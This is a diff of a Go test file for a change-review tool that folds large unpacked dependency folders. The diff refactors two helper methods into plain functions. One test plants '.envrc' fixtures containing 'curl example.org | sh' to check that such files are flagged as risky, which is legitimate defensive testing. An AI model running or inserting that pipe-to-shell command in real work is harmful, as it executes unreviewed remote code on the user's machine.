@@ -16,7 +16,7 @@ import (
 )
 
 // folded computes the change set with at most so many changes listed.
-func (b *bench) folded(most int) *review.ChangeSet {
+func folded(b *bench, most int) *review.ChangeSet {
 	b.t.Helper()
 	cs, err := review.Compute(b.t.Context(), b.ws, review.Options{MaxListed: most})
 	must(b.t, err)
@@ -41,7 +41,7 @@ func outline(cs *review.ChangeSet) (lines []string) {
 }
 
 // unpack writes so many files of a dependency, in many folders.
-func (b *bench) unpack(dir string, files int) {
+func unpack(b *bench, dir string, files int) {
 	for i := range files {
 		b.write(fmt.Sprintf("%s/package%03d/lib/file%d.js", dir, i/2, i), fmt.Sprintf("module.exports = %d\n", i))
 	}
@@ -49,7 +49,7 @@ func (b *bench) unpack(dir string, files int) {
 
 func TestWhatIsUnpackedIsFoldedAndTheWorkBesideItIsListed(t *testing.T) {
 	b := newRepository(t, map[string]string{"README": "hello\n", "src/main.go": "package main\n", "old.txt": "old\n", "data/a": "a\n"}).prepare()
-	b.unpack("apps/web/node_modules", 300)
+	unpack(b, "apps/web/node_modules", 300)
 	b.write("apps/web/src/app.js", "app()\n")
 	b.write("README", "changed\n")
 	b.write("src/new.go", "package main\n\nvar x = 1\n")
@@ -57,7 +57,7 @@ func TestWhatIsUnpackedIsFoldedAndTheWorkBesideItIsListed(t *testing.T) {
 		b.write(fmt.Sprintf("data/%03d.csv", i), "1,2\n")
 	}
 	must(t, os.Remove(b.path("old.txt")))
-	cs := b.folded(20)
+	cs := folded(b, 20)
 	want := []string{"M README", "A apps/web/src/app.js", "D old.txt", "A src/new.go", "./ 100 files", "apps/web/node_modules/ 300 files"}
 	if diff := cmp.Diff(want, outline(cs)); diff != "" {
 		t.Fatalf("the list (-want +got):\n%s", diff)
@@ -87,12 +87,12 @@ func TestWhatIsUnpackedIsFoldedAndTheWorkBesideItIsListed(t *testing.T) {
 // agent's tree.
 func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
 	b := newRepository(t, map[string]string{"README": "hello\n", "gone/a": "a\n", "gone/b": "b\n", "gone/c": "c\n"}).prepare()
-	b.unpack("one", 80)
-	b.unpack("two", 90)
+	unpack(b, "one", 80)
+	unpack(b, "two", 90)
 	b.write("src.go", "package main\n")
 	must(t, os.RemoveAll(b.path("gone")))
 	b.write("gone", "a file now\n")
-	cs, ctx := b.folded(5), t.Context()
+	cs, ctx := folded(b, 5), t.Context()
 	if got := outline(cs); !slices.Contains(got, "one/ 80 files") || !slices.Contains(got, "two/ 90 files") {
 		t.Fatalf("the list is %q", got)
 	}
@@ -147,13 +147,13 @@ func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
 // A folder of which one file would run is held back, and says which.
 func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
 	b := newRepository(t, map[string]string{"README": "hello\n", "package.json": `{"scripts":{"postinstall":"node tools/run/x/setup.js"}}`}).prepare()
-	b.unpack("calm", 30)
-	b.unpack("third", 40)
+	unpack(b, "calm", 30)
+	unpack(b, "third", 40)
 	b.write("third/package001/.envrc", "curl example.org | sh\n")
 	b.write("third/package007/.envrc", "curl example.org | sh\n")
-	b.unpack("tools", 50)
+	unpack(b, "tools", 50)
 	b.write("tools/run/x/setup.js", "run()\n")
-	cs := b.folded(5)
+	cs := folded(b, 5)
 	risks := map[string]string{}
 	for _, c := range cs.Changes {
 		if c.Risky() {
@@ -180,7 +180,7 @@ func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
 // The hunk of a folder is the folder, and its id changes with what is below it.
 func TestAFoldedFolderIsOneHunk(t *testing.T) {
 	b := newRepository(t, map[string]string{"README": "hello\n"}).prepare()
-	b.unpack("one", 80)
+	unpack(b, "one", 80)
 	id := func(cs *review.ChangeSet) (id review.HunkID) {
 		must(t, cs.Files(t.Context(), func(f review.FileDiff) error {
 			if len(f.Hunks) != 1 || f.Hunks[0].Kind != review.HunkFolder {
@@ -191,12 +191,12 @@ func TestAFoldedFolderIsOneHunk(t *testing.T) {
 		}))
 		return id
 	}
-	first := id(b.folded(5))
-	if again := id(b.folded(5)); again != first || first == "" {
+	first := id(folded(b, 5))
+	if again := id(folded(b, 5)); again != first || first == "" {
 		t.Errorf("the id is %s, and then %s", first, again)
 	}
 	b.write("one/package000/lib/file0.js", "another content\n")
-	cs := b.folded(5)
+	cs := folded(b, 5)
 	if second := id(cs); second == first {
 		t.Error("the id does not change with the files")
 	}
@@ -226,7 +226,7 @@ func TestPartsOfAFoldedChangeSetAddUp(t *testing.T) {
 		must(t, os.RemoveAll(b.path("d1")))
 		whole := b.compute().Tree
 		for _, most := range []int{1, 7, 30} {
-			cs := b.folded(most)
+			cs := folded(b, most)
 			if cs.Tree != whole {
 				t.Fatalf("seed %d, %d listed: the tree is %s, not %s", seed, most, cs.Tree, whole)
 			}
